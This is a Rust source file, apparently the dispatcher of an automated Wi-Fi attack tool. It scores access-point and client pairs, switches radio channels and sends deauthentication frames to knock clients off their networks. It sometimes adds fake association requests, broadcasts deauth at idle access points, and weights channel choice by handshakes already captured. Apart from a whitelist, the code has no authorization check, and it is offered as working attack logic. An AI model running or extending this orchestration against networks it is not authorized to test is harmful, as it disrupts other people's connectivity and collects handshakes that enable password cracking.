// src/dispatcher.rs
//
// Turns targeting decisions into agent calls.
//
// Every operation follows the same shape: take the registry lock, decide
// and commit counters, release the lock, then talk to the agent. Agent
// failures are logged and swallowed; counters committed before a failure
// stay committed. Pauses go through the pool's `CancelToken` so shutdown
// interrupts them.

use std::collections::{BTreeMap, HashSet};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use rand::distributions::{Distribution, WeightedIndex};
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::Serialize;
use tracing::{debug, error, info, warn};

use crate::agent::{Agent, ApTarget, ClientTarget};
use crate::config::{DispatchConfig, Whitelist};
use crate::gate::{calculate_delay, chance};
use crate::pool::CancelToken;
use crate::registry::{lock_registry, Registry, SharedRegistry};
use crate::types::{normalize_mac, now_ms, secs_between, TimestampMs};

/// An (AP, client) pair as handed over by a discovery or capture event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackTarget {
    pub ap: ApTarget,
    pub client: ClientTarget,
}

impl AttackTarget {
    pub fn new(ap: ApTarget, client: ClientTarget) -> Self {
        Self { ap, client }
    }

    fn key(&self) -> (String, String) {
        (normalize_mac(&self.ap.mac), normalize_mac(&self.client.mac))
    }
}

/// How one `execute_attack` call ended.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum AttackOutcome {
    Whitelisted,
    /// AP or client vanished before counters could be committed.
    Untracked,
    BelowThreshold { score: f64, threshold: f64 },
    /// Another task already holds this target (single-flight only).
    InFlight,
    Attacked { delay_s: f64, associated: bool, agent_errors: u32 },
    /// Shutdown interrupted the task after counters were committed.
    Cancelled,
}

impl AttackOutcome {
    pub fn attacked(&self) -> bool {
        matches!(self, AttackOutcome::Attacked { .. })
    }
}

/// Per-channel aggregate used for channel selection.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct ChannelStats {
    pub aps: usize,
    pub clients: usize,
    pub handshakes: u64,
}

impl ChannelStats {
    pub fn weight(&self) -> u64 {
        self.handshakes * 10 + self.clients as u64
    }
}

pub fn channel_stats(registry: &Registry) -> BTreeMap<u8, ChannelStats> {
    let mut stats: BTreeMap<u8, ChannelStats> = BTreeMap::new();
    for ap in registry.aps().values() {
        let Some(ch) = ap.channel else {
            continue;
        };
        let entry = stats.entry(ch).or_default();
        entry.aps += 1;
        entry.clients += ap.clients.len();
        entry.handshakes += ap.handshakes as u64;
    }
    stats
}

/// Removes a target from the in-flight set when the attack ends.
struct FlightSlot<'a> {
    set: &'a Mutex<HashSet<(String, String)>>,
    key: (String, String),
}

impl Drop for FlightSlot<'_> {
    fn drop(&mut self) {
        self.set
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .remove(&self.key);
    }
}

pub struct Dispatcher {
    cfg: DispatchConfig,
    registry: SharedRegistry,
    whitelist: Arc<Whitelist>,
    agent: Arc<dyn Agent>,
    rng: Mutex<ChaCha8Rng>,
    in_flight: Mutex<HashSet<(String, String)>>,
}

impl Dispatcher {
    pub fn new(
        cfg: DispatchConfig,
        registry: SharedRegistry,
        whitelist: Arc<Whitelist>,
        agent: Arc<dyn Agent>,
        seed: Option<u64>,
    ) -> Self {
        let rng = match seed {
            Some(seed) => ChaCha8Rng::seed_from_u64(seed),
            None => ChaCha8Rng::from_entropy(),
        };
        Self {
            cfg,
            registry,
            whitelist,
            agent,
            rng: Mutex::new(rng),
            in_flight: Mutex::new(HashSet::new()),
        }
    }

    pub fn config(&self) -> &DispatchConfig {
        &self.cfg
    }

    fn with_rng<T>(&self, f: impl FnOnce(&mut ChaCha8Rng) -> T) -> T {
        let mut rng = self.rng.lock().unwrap_or_else(|e| e.into_inner());
        f(&mut rng)
    }

    fn coin(&self, p: f64) -> bool {
        self.with_rng(|rng| chance(rng, p))
    }

    fn claim<'a>(&'a self, target: &AttackTarget) -> Option<FlightSlot<'a>> {
        let key = target.key();
        let mut set = self.in_flight.lock().unwrap_or_else(|e| e.into_inner());
        if !set.insert(key.clone()) {
            return None;
        }
        Some(FlightSlot {
            set: &self.in_flight,
            key,
        })
    }

    /// Attack one client: re-validate, gate on the dynamic score threshold,
    /// commit counters, then hop channel, deauth and maybe associate.
    pub async fn execute_attack(
        &self,
        target: &AttackTarget,
        cancel: &mut CancelToken,
    ) -> AttackOutcome {
        let ap = &target.ap;
        let client = &target.client;

        if self.whitelist.contains(&ap.mac, ap.ssid.as_deref()) {
            debug!(ap = %ap.mac, "skipping whitelisted target");
            return AttackOutcome::Whitelisted;
        }

        let _slot = if self.cfg.single_flight {
            match self.claim(target) {
                Some(slot) => Some(slot),
                None => {
                    debug!(ap = %ap.mac, client = %client.mac, "attack already in flight");
                    return AttackOutcome::InFlight;
                }
            }
        } else {
            None
        };

        let now = now_ms();
        let snapshot = {
            let mut reg = lock_registry(&self.registry);
            // Capture events may carry no name; the stored one still counts.
            let stored_ssid = reg.ap(&ap.mac).and_then(|a| a.ssid.as_deref());
            if self.whitelist.contains(&ap.mac, stored_ssid) {
                debug!(ap = %ap.mac, "skipping whitelisted target");
                return AttackOutcome::Whitelisted;
            }
            reg.upsert_ap(&ap.mac, ap.channel, ap.ssid.as_deref(), now);
            reg.upsert_client(&ap.mac, &client.mac, client.signal, &client.vendor, now);

            let threshold = reg.score_threshold(
                self.cfg.score_percentile,
                self.cfg.fallback_score_threshold,
            );
            let Some(score) = reg.client(&ap.mac, &client.mac).map(|c| c.score) else {
                warn!(ap = %ap.mac, client = %client.mac, "client not tracked; skipping attack");
                return AttackOutcome::Untracked;
            };
            if score < threshold {
                debug!(client = %client.mac, score, threshold, "skipping low-score target");
                return AttackOutcome::BelowThreshold { score, threshold };
            }
            match reg.record_attempt(&ap.mac, &client.mac, now) {
                Some(snap) => snap,
                None => {
                    warn!(ap = %ap.mac, client = %client.mac, "target vanished; skipping attack");
                    return AttackOutcome::Untracked;
                }
            }
        };

        let delay_s = calculate_delay(&self.cfg, snapshot.attempts, snapshot.last_success, now);
        let mut agent_errors = 0u32;

        if let Some(ch) = snapshot.channel {
            if let Err(err) = self.agent.set_channel(ch).await {
                error!(channel = ch, "attack channel switch failed: {err}");
                agent_errors += 1;
            }
        }

        info!(
            ap = %ap.mac,
            client = %client.mac,
            vendor = %client.vendor,
            score = snapshot.score,
            delay_s,
            "attacking"
        );
        if let Err(err) = self.agent.deauth(ap, client, delay_s).await {
            error!(ap = %ap.mac, client = %client.mac, "deauth failed: {err}");
            agent_errors += 1;
        }

        let mut associated = false;
        if self.coin(self.cfg.fake_auth_prob) {
            if !cancel
                .pause(Duration::from_millis(self.cfg.fake_auth_pause_ms))
                .await
            {
                return AttackOutcome::Cancelled;
            }
            let assoc_delay = delay_s * self.cfg.fake_auth_delay_factor;
            match self.agent.associate(ap, assoc_delay).await {
                Ok(()) => associated = true,
                Err(err) => {
                    error!(ap = %ap.mac, "associate failed: {err}");
                    agent_errors += 1;
                }
            }
        }

        AttackOutcome::Attacked {
            delay_s,
            associated,
            agent_errors,
        }
    }

    /// Jittered follow-up deauth with an optional association. Touches no
    /// registry state. Returns false when cancelled.
    pub async fn delayed_retry(
        &self,
        target: &AttackTarget,
        delay_s: f64,
        cancel: &mut CancelToken,
    ) -> bool {
        let (lo, hi) = self.cfg.retry_jitter_s;
        let jitter = if hi > lo {
            self.with_rng(|rng| rng.gen_range(lo..hi))
        } else {
            lo
        };
        if !cancel.pause(Duration::from_secs_f64(jitter.max(0.0))).await {
            return false;
        }
        if let Err(err) = self.agent.deauth(&target.ap, &target.client, delay_s).await {
            error!(ap = %target.ap.mac, client = %target.client.mac, "retry deauth failed: {err}");
        }
        if self.coin(self.cfg.retry_associate_prob) {
            if !cancel
                .pause(Duration::from_millis(self.cfg.retry_pause_ms))
                .await
            {
                return false;
            }
            if let Err(err) = self
                .agent
                .associate(&target.ap, delay_s * self.cfg.retry_delay_factor)
                .await
            {
                error!(ap = %target.ap.mac, "retry associate failed: {err}");
            }
        }
        true
    }

    /// Untargeted deauth against idle APs: no clients, no captures, seen
    /// recently. Each candidate is hit with the configured probability.
    /// Returns the number of broadcasts sent.
    pub async fn broadcast_deauth(&self, now: TimestampMs) -> usize {
        let candidates: Vec<ApTarget> = {
            let reg = lock_registry(&self.registry);
            reg.aps()
                .iter()
                .filter(|(_, ap)| {
                    ap.clients.is_empty()
                        && ap.handshakes == 0
                        && secs_between(ap.last_seen, now) < self.cfg.broadcast_recent_window_s
                })
                .map(|(mac, ap)| ApTarget::new(mac.clone(), ap.ssid.clone(), ap.channel))
                .collect()
        };

        let broadcast = ClientTarget::broadcast();
        let mut sent = 0usize;
        for ap in candidates {
            if self.whitelist.contains(&ap.mac, ap.ssid.as_deref()) {
                continue;
            }
            if !self.coin(self.cfg.broadcast_deauth_prob) {
                debug!(ap = %ap.mac, "skipped broadcast deauth (rate limited)");
                continue;
            }
            if let Some(ch) = ap.channel {
                if let Err(err) = self.agent.set_channel(ch).await {
                    error!(channel = ch, "broadcast channel switch failed: {err}");
                }
            }
            match self
                .agent
                .deauth(&ap, &broadcast, self.cfg.broadcast_delay_s)
                .await
            {
                Ok(()) => {
                    info!(ap = %ap.mac, "broadcast deauth sent");
                    sent += 1;
                }
                Err(err) => error!(ap = %ap.mac, "broadcast deauth failed: {err}"),
            }
        }
        sent
    }

    /// Weighted random channel from per-channel stats
    /// (`handshakes * 10 + clients`), uniform over the default channels when
    /// there are no stats or every weight is zero.
    pub fn select_optimal_channel(&self) -> u8 {
        let stats = channel_stats(&lock_registry(&self.registry));
        self.with_rng(|rng| pick_channel(&stats, &self.cfg.default_channels, rng))
    }
}

/// Channel choice over precomputed stats.
pub fn pick_channel<R: Rng + ?Sized>(
    stats: &BTreeMap<u8, ChannelStats>,
    defaults: &[u8],
    rng: &mut R,
) -> u8 {
    let fallback = |rng: &mut R| defaults.choose(rng).copied().unwrap_or(1);
    if stats.is_empty() {
        return fallback(rng);
    }
    let channels: Vec<u8> = stats.keys().copied().collect();
    match WeightedIndex::new(stats.values().map(ChannelStats::weight)) {
        Ok(dist) => channels[dist.sample(rng)],
        Err(err) => {
            debug!("channel weights unusable ({err}); picking uniformly");
            fallback(rng)
        }
    }
}
